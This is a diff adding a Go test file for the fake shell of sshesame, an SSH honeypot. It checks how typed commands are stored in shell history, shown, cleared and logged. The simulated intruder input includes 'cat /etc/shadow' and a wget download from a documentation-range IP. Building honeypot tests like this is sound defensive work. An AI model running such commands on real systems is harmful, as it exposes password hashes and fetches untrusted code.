@@ -0,0 +1,90 @@
+package shell
+
+import (
+	"context"
+	"fmt"
+	"github.com/longkeyy/sshesame/config"
+	"strings"
+	"testing"
+)
+
+// enter runs line in shell as typed at its prompt, adding it to the history.
+func enter(t *testing.T, shell *shell, line string) string {
+	t.Helper()
+	shell.remember(line)
+	stdout, _, _ := runScript(t, shell, line)
+	return stdout
+}
+
+func TestHistory(t *testing.T) {
+	hook := captureLog(t)
+	shell := newShell(context.Background(), newTestSession("root"), config.Shell{Profile: DefaultProfile}, true)
+	seeded := append([]string(nil), shell.system.History...)
+	if len(seeded) == 0 {
+		t.Fatal("root has no history, want that of its past logins")
+	}
+	for _, line := range []string{"uname -a", "id", "id", " cat /etc/shadow", "wget http://198.51.100.1/x"} {
+		enter(t, shell, line)
+	}
+	// Repeated lines and those starting with a space are left out.
+	want := append(seeded, "uname -a", "id", "wget http://198.51.100.1/x", "history")
+	var expected strings.Builder
+	for i, line := range want {
+		fmt.Fprintf(&expected, "%5d  %v\n", i+1, line)
+	}
+	hook.Reset()
+	if stdout := enter(t, shell, "history"); stdout != expected.String() {
+		t.Errorf("history wrote\n%v\nwant\n%v", stdout, expected.String())
+	}
+	if entry := lastEntry(hook, "Shell history read"); entry == nil || entry.Data["source"] != "history" || entry.Data["entries"] != len(want) || entry.Data["category"] != "history_access" {
+		t.Errorf("history logged %v, want a history_access event", entry)
+	}
+	if stdout := enter(t, shell, "history 2"); stdout != fmt.Sprintf("%5d  history\n%5d  history 2\n", len(want), len(want)+1) {
+		t.Errorf("history 2 wrote %q, want the last 2 lines", stdout)
+	}
+
+	// Like bash, the file only has what past logins saved on logging out.
+	hook.Reset()
+	if stdout := enter(t, shell, "cat ~/.bash_history"); stdout != strings.Join(seeded, "\n")+"\n" {
+		t.Errorf("cat ~/.bash_history wrote %q, want the seeded history", stdout)
+	}
+	if entry := lastEntry(hook, "Shell history read"); entry == nil || entry.Data["source"] != "/root/.bash_history" || entry.Data["entries"] != len(seeded) {
+		t.Errorf("reading the history file logged %v", entry)
+	}
+
+	enter(t, shell, "history -c")
+	if stdout := enter(t, shell, "history"); stdout != "    1  history\n" {
+		t.Errorf("history after history -c wrote %q", stdout)
+	}
+}
+
+func TestHistorySeeded(t *testing.T) {
+	for seed := int64(1); seed <= 20; seed++ {
+		sess := newTestSession("root")
+		sess.Seed = seed
+		system := newTestShell(sess, config.Shell{}).system
+		again := newTestShell(sess, config.Shell{}).system
+		if strings.Join(system.History, "\n") != strings.Join(again.History, "\n") {
+			t.Errorf("seed %v gave different histories", seed)
+		}
+		// Only logins that ended, as last shows them, saved a history.
+		ended := false
+		for _, login := range system.Logins {
+			ended = ended || login.User == "root" && !login.End.IsZero()
+		}
+		if ended != (len(system.History) != 0) || ended != (system.HistoryFile == "/root/.bash_history") {
+			t.Errorf("seed %v: history %q with logins %+v", seed, system.History, system.Logins)
+		}
+	}
+}
+
+func TestHistoryNonInteractive(t *testing.T) {
+	hook := captureLog(t)
+	// Like bash, shells run for exec requests keep no history.
+	if stdout, _, status := run(t, config.Shell{}, "history"); stdout != "" || status != 0 {
+		t.Errorf("history = %q, %v, want nothing", stdout, status)
+	}
+	if entry := lastEntry(hook, "Shell history read"); entry == nil || entry.Data["entries"] != 0 {
+		t.Errorf("history logged %v, want the attempt logged", entry)
+	}
+}